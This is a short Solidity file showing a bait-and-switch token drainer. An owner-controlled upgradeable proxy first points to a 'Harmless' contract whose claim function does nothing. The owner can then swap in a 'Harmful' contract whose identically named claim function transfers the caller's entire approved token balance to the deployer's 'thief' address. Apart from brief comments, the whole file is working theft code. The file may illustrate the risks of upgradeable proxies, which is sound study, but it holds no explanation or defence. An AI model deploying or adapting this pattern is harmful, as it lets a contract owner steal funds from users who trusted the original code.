// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// A proxy whose owner may put other code behind it at any time.
contract Upgradeable {
    address private implementation;
    address private immutable owner = msg.sender;

    constructor(address implementation_) {
        implementation = implementation_;
    }

    function upgradeTo(address next) external {
        require(msg.sender == owner, "Upgradeable: not the owner");
        implementation = next;
    }

    fallback() external {
        address code = implementation;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// What stands behind the proxy at first: it does nothing.
contract Harmless {
    function claim(address) external {}
}

/// And what comes after: it takes everything. Both have one function of one name.
contract Harmful {
    address private immutable thief = msg.sender;

    function claim(address token) external {
        (, bytes memory balance) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", msg.sender));
        (bool ok,) = token.call(
            abi.encodeWithSignature(
                "transferFrom(address,address,uint256)", msg.sender, thief, abi.decode(balance, (uint256))
            )
        );
        require(ok, "Harmful: nothing taken");
    }
}
